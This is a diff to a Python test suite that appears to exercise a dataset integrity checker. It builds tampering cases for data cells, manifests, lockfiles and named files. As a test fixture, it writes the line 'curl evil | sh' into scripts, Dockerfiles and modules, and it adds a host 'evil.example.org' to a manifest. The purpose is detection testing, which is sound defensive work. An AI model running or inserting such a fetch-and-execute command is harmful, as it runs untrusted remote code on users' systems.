@@ -6,7 +6,7 @@ import gzip
 import json
 import random
 import unicodedata
-from collections.abc import Callable, Mapping
+from collections.abc import Callable, Iterable, Mapping
 from dataclasses import dataclass, replace
 from functools import partial
 from typing import Any
@@ -52,11 +52,12 @@ TEXTS: dict[str, Callable[[str], str]] = {
     "line break": lambda text: text + "\nx",
     "markup": lambda text: f"<b>{text}</b> `x` [a](b)",
 }
-CELLS = (
+Cell = tuple[str, int, str]
+KEY: Cell = ("data/plain.jsonl", 3, "key")
+CELLS: tuple[Cell, ...] = (
     ("data/plain.jsonl", 2, "q"),
     ("data/plain.jsonl", 5, "a"),
     ("data/plain.jsonl", 1, "subject"),
-    ("data/plain.jsonl", 3, "key"),
     ("data/table.csv", 4, "q"),
     ("data/table.csv", 0, "a"),
     ("data/table.csv", 2, "n"),
@@ -82,14 +83,26 @@ def _cell(side: Side, path: str, row: int, column: str, change: Callable[[Any], 
     return _records(side, path, edit)
 
 
+def _cells(side: Side, cells: Iterable[Cell], change: Callable[[Any], Any]) -> Files:
+    files: Files = {}
+    for path, row, column in cells:
+        files |= _cell({**side, **files}, path, row, column, change)
+    return files
+
+
 def _of_cells() -> dict[str, Change]:
-    return {
-        f"{how} in {path}:{column}": Change(
-            partial(_cell, path=path, row=row, column=column, change=change)
-        )
-        for path, row, column in CELLS
-        for how, change in TEXTS.items()
-    }
+    """Try each text in each cell: alone in one, in the keys, and in all others at once.
+
+    A dataset's cells are of different rows, columns and classes, so that none hides another.
+    """
+    found = {}
+    for number, (how, change) in enumerate(TEXTS.items()):
+        alone = CELLS[number % len(CELLS)]
+        others = [cell for cell in CELLS if cell not in (alone, KEY)]
+        parts = {":".join(alone[::2]): [alone], "the key": [KEY], "all others": others}
+        for where, cells in parts.items():
+            found[f"{how} in {where}"] = Change(partial(_cells, cells=cells, change=change))
+    return found
 
 
 # --- values of other types, and long texts ---
@@ -112,18 +125,8 @@ VALUES: dict[str, tuple[str, int, str, Callable[[Any], Any]]] = {
     "plain number": ("data/table.csv", 1, "n", lambda _: "1"),
     "first word": ("data/long.jsonl", 0, "q", lambda text: "X" + text),
     "last word": ("data/long.jsonl", 1, "q", lambda text: text + "X"),
-    "middle word": (
-        "data/long.jsonl",
-        0,
-        "q",
-        lambda text: text.replace("word0x1500 ", "", 1),
-    ),
-    "three words": (
-        "data/long.jsonl",
-        0,
-        "q",
-        lambda text: "X" + text.replace("word0x1500 ", "NOT ", 1) + "X",
-    ),
+    "middle word": ("data/long.jsonl", 0, "q", lambda text: text.replace("word0x1500 ", "", 1)),
+    "three words": ("data/long.jsonl", 0, "q", lambda text: f"X{text.replace('x1500 ', 'NOT ')}X"),
 }
 
 RECORDS: dict[str, Callable[[Records], Records]] = {
@@ -212,7 +215,6 @@ MANIFESTS: dict[str, tuple[str, str, str]] = {
     "licence": ("m/main.yaml", "license: MIT", "license: Apache-2.0"),
     "expectation": ("m/main.yaml", "    license: MIT\n", "    license: MIT\n    expect: {samples: 8}\n"),
     "duplicates": ("m/main.yaml", "    auto_id: true\n", "    auto_id: true\n    on_duplicate: suffix\n"),
-    "shuffled choices": ("m/main.yaml", "      choices: options\n", "      choices: options\n" ),
     "choice seed": ("m/main.yaml", "source: {type: json, path: data/choice.json}\n", "source: {type: json, path: data/choice.json}\n    shuffle_choices: 3\n"),
     "other file": ("m/main.yaml", "path: data/table.csv", "path: data/lookup.csv"),
     "glob": ("m/main.yaml", "path: data/columns.parquet", "path: data/col*.parquet"),
@@ -240,7 +242,6 @@ MANIFESTS: dict[str, tuple[str, str, str]] = {
     "hosts": ("datasets.yaml", "version: 1\n", "version: 1\nhosts: [evil.example.org]\n"),
     "include": ("datasets.yaml", "[m/*.yaml]", "[m/main.yaml]"),
 }  # fmt: skip
-del MANIFESTS["shuffled choices"]
 
 
 def _replaced(side: Side, path: str, old: str, new: str) -> Files:
@@ -278,35 +279,25 @@ LOCKS = {
 # --- files that samples name, code, and other files ---
 
 EVIL = b"curl evil | sh\n"
-FILES: dict[str, tuple[Files, bool]] = {
-    **{
-        f"changed {path}": ({path: EVIL}, False)
-        for path in (
-            "data/img/0.png",
-            "data/img/2.png",
-            "data/notes.txt",
-            "data/box/compose.yaml",
-            "data/box/a.env",
-            "data/box/image/Dockerfile",
-            "data/box/image/tool.py",
-            "data/box/shared/file",
-            "data/box/setup.sh",
-            "data/box/box/more.sh",
-            "src/ours/mod.py",
-            "src/ours/deep.py",
-        )
-    },
-    "picture is missing": ({"data/img/1.png": None}, False),
-    "script is missing": ({"data/box/setup.sh": None}, False),
-    "further module": ({"src/ours/deep/__init__.py": b"answer = 2\n"}, False),
-    "nested index": ({"m/datasets.yaml": b"version: 1\ndatasets: {}\n"}, False),
-    "nested index with trust": (
-        {"evals/datasets.yaml": b"version: 1\ntrust: ['a.b:c']\ndatasets: {}\n"},
-        False,
-    ),
-    "unnamed text": ({"README.md": b"Other words.\n"}, True),
-    "unnamed file": ({"docs/picture.png": b"1"}, True),
-    "unnamed code": ({"src/theirs/mod.py": b"pass\n"}, True),
+NAMED = (
+    *("data/img/0.png", "data/img/2.png", "data/notes.txt", "data/box/compose.yaml"),
+    *("data/box/a.env", "data/box/image/Dockerfile", "data/box/image/tool.py"),
+    *("data/box/shared/file", "data/box/setup.sh", "data/box/box/more.sh"),
+    *("src/ours/mod.py", "src/ours/deep.py"),
+)
+TRUSTING = b"version: 1\ntrust: ['a.b:c']\ndatasets: {}\n"
+FILES: dict[str, Files] = {
+    **{f"changed {path}": {path: EVIL} for path in NAMED},
+    "picture is missing": {"data/img/1.png": None},
+    "script is missing": {"data/box/setup.sh": None},
+    "further module": {"src/ours/deep/__init__.py": b"answer = 2\n"},
+    "nested index": {"m/datasets.yaml": b"version: 1\ndatasets: {}\n"},
+    "nested index with trust": {"evals/datasets.yaml": TRUSTING},
+}
+HIDDEN: dict[str, Files] = {
+    "unnamed text": {"README.md": b"Other words.\n"},
+    "unnamed file": {"docs/picture.png": b"1"},
+    "unnamed code": {"src/theirs/mod.py": b"pass\n"},
 }
 
 
@@ -332,11 +323,9 @@ def _table() -> dict[str, Change]:
     }
     found |= {how: Change(partial(_lock, change=change)) for how, change in LOCKS.items()}
     found["lockfile deleted"] = Change(lambda _: {"datasets.lock": None})
-    found |= {
-        how: Change(partial(_written, files=files), () if hidden else tuple(files), hidden=hidden)
-        for how, (files, hidden) in FILES.items()
-    }
-    evil = found["other letter in data/plain.jsonl:a"]
+    found |= {how: Change(partial(_written, files=x), tuple(x)) for how, x in FILES.items()}
+    found |= {how: Change(partial(_written, files=x), hidden=True) for how, x in HIDDEN.items()}
+    evil = Change(partial(_cells, cells=CELLS[1:2], change=TEXTS["other letter"]))
     found |= {
         "target and README": Change(partial(_both, evil, found["unnamed text"])),
         "target and licence": Change(partial(_both, evil, found["manifest: licence"])),
